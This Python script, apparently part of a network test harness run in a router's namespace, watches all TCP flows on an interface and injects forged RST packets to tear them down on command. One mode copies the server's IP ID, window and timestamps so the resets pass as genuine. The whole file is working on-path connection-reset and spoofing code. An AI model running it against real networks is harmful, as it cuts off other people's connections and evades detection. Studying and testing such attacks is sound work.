"""Owns the forger of resets: a process in a router that watches all flows and breaks them on order.

Run as `python forger.py INTERFACE` in the router's namespace. Orders on standard input, a line
each: `reset TTL` sends every client a bare RST in sequence with that TTL (RFC 5961 section 3.2
accepts no other); `imitate` one made like the server's own next packet, down to IP ID, window
and timestamps (RFC 7323). It ends when standard input does.
"""

import os
import select
import socket
import struct
import sys
import time
from dataclasses import dataclass
from typing import NamedTuple

_ETH_P_ALL = 3
_OUTGOING = 4  # packet(7)
_FIN, _SYN, _RST, _ACK = 0x01, 0x02, 0x04, 0x10
_IP_WORDS = 0x0F
_NO_OPTIONS = 5 << 4
_TIMESTAMPS = b"\x01\x01\x08\x0a"  # NOP, NOP, kind 8, length 10


class Flow(NamedTuple):
    """As its client sees it."""

    client: tuple[bytes, int]
    server: tuple[bytes, int]


@dataclass
class Seen:
    """What the next packet of the server would be made of."""

    server_packet: bytes = b""
    """The last one's headers."""
    server_next: int = 0
    client_next: int = 0


class Forger:
    """Watches one interface, as an on-path box does."""

    def __init__(self, interface: str) -> None:
        self._flows: dict[Flow, Seen] = {}
        self.watch = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
        self.watch.bind((interface, _ETH_P_ALL))
        self._raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def see(self) -> None:
        """Take in all packets that have come."""
        while True:
            try:
                packet, address = self.watch.recvfrom(2048, socket.MSG_DONTWAIT)
            except BlockingIOError:
                return
            if packet[0] >> 4 == 4 and packet[9] == socket.IPPROTO_TCP:
                self._note(packet, from_server=address[2] == _OUTGOING)

    def _note(self, packet: bytes, *, from_server: bool) -> None:
        tcp = 4 * (packet[0] & _IP_WORDS)
        (total,) = struct.unpack_from("!H", packet, 2)
        source, destination, seq, _, offset, flags = struct.unpack_from("!HHIIBB", packet, tcp)
        ends = (packet[12:16], source), (packet[16:20], destination)
        flow = Flow(ends[1], ends[0]) if from_server else Flow(*ends)
        if flags & (_RST | _FIN):
            self._flows.pop(flow, None)
            return
        seen = self._flows.setdefault(flow, Seen())
        follows = (seq + total - tcp - 4 * (offset >> 4) + bool(flags & _SYN)) % 2**32
        if from_server:
            seen.server_packet, seen.server_next = packet[:total], follows
        else:
            seen.client_next = follows

    def reset(self, ttl: int) -> int:
        """Crude ones."""
        for flow, seen in self._flows.items():
            self._send(flow, _ip(flow, ttl, ip_id=0x1234, df=0), _tcp(flow, seen.server_next))
        return self._forget()

    def imitate(self) -> int:
        """Perfect ones."""
        for flow, seen in self._flows.items():
            self._send(flow, *_successor(flow, seen))
        return self._forget()

    def _send(self, flow: Flow, ip: bytes, tcp: bytes) -> None:
        pseudo = flow.server[0] + flow.client[0] + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", _checksum(pseudo + tcp)) + tcp[18:]
        ip = ip[:2] + struct.pack("!H", len(ip) + len(tcp)) + ip[4:]  # the kernel adds the checksum
        self._raw.sendto(ip + tcp, (socket.inet_ntoa(flow.client[0]), 0))

    def _forget(self) -> int:
        broken = len(self._flows)
        self._flows.clear()
        return broken


def _ip(flow: Flow, ttl: int, ip_id: int, df: int) -> bytes:
    return struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 0, ip_id, df, ttl, 6, 0, flow.server[0], flow.client[0]
    )


def _tcp(flow: Flow, seq: int) -> bytes:
    ports = flow.server[1], flow.client[1]
    return struct.pack("!HHIIBBHHH", *ports, seq, 0, _NO_OPTIONS, _RST, 0, 0, 0)


def _successor(flow: Flow, seen: Seen) -> tuple[bytes, bytes]:
    last = seen.server_packet
    tcp = 4 * (last[0] & _IP_WORDS)
    ip_id, df, ttl = struct.unpack_from("!HHB", last, 4)
    (window,) = struct.unpack_from("!H", last, tcp + 14)
    options = last[tcp + 20 : tcp + 32]
    assert options.startswith(_TIMESTAMPS), "the server's packets have timestamps"
    offset = (20 + len(options)) // 4 << 4
    ends = flow.server[1], flow.client[1]
    header = struct.pack(
        "!HHIIBBHHH", *ends, seen.server_next, seen.client_next, offset, _RST | _ACK, window, 0, 0
    )
    return _ip(flow, ttl, (ip_id + 1) % 2**16, df), header + options


def _checksum(data: bytes) -> int:
    """RFC 1071."""
    data += b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main() -> None:
    forger = Forger(sys.argv[1])
    print("watching", flush=True)
    while True:
        ready, _, _ = select.select([forger.watch, sys.stdin.fileno()], [], [])
        forger.see()
        if sys.stdin.fileno() not in ready:
            continue
        order = os.read(sys.stdin.fileno(), 100).decode().split()
        if not order:
            return
        began = time.time_ns()
        broken = forger.imitate() if order[0] == "imitate" else forger.reset(int(order[1]))
        print(f"forged {broken} {began} {time.time_ns()}", flush=True)


if __name__ == "__main__":
    main()
